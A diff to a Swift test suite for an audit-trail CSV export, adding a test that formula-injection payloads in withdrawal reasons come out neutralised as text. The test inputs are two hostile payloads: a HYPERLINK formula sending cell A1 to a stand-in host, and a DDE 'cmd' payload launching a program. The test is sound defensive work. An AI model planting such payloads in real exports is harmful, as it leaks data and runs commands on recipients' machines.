@@ -110,6 +110,20 @@ struct AuditTrailCSVTests {
         #expect(try trail(f, candidate: "C-1").first { $0["action"] == "entry.corrected" }?["reason"] == "'=1+1 typed by mistake")
     }
 
+    @Test("the report's CSV neutralises formulas too: a withdrawal reason reaches the sponsor's spreadsheet as text")
+    func reportCSVNeutralised() throws {
+        let f = try Fixture(policy: ShippedPolicies.sanetEP)
+        try f.run(.register(candidate: "C-1", fields: ["site": "SITE-01"]))
+        try f.run(.withdraw(candidate: "C-1", category: .other, reason: "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")"))
+        try f.run(.register(candidate: "C-2", fields: ["site": "SITE-01"]))
+        try f.run(.withdraw(candidate: "C-2", category: .other, reason: "-2+3+cmd|' /C calc'!A0"))
+        let csv = try f.run(.report(asOfSeq: nil, asOfTime: nil, site: nil, from: nil, to: nil, format: "csv"))["csv"]!.stringValue!
+        let rows = csvRows(csv)
+        let reason = try #require(rows.first?.firstIndex(of: "withdrawal_reason"))
+        #expect(rows.dropFirst().map { $0[reason] } == ["'=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", "'-2+3+cmd|' /C calc'!A0"])
+        #expect(rows.dropFirst().allSatisfy { $0.allSatisfy { cell in !["=", "+", "@"].contains(cell.first.map(String.init) ?? "") } })
+    }
+
     @Test("a cell is neutralised exactly when a spreadsheet would read a formula, and the rule reverses", arguments: [
         ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("'x", "''x"),
         ("-5", "-5"), ("-0.25", "-0.25"), ("-1e-3", "-1e-3"), ("-", "'-"), ("-1.", "'-1."), ("a=b", "a=b"), ("", ""), ("2026-07-01", "2026-07-01"),
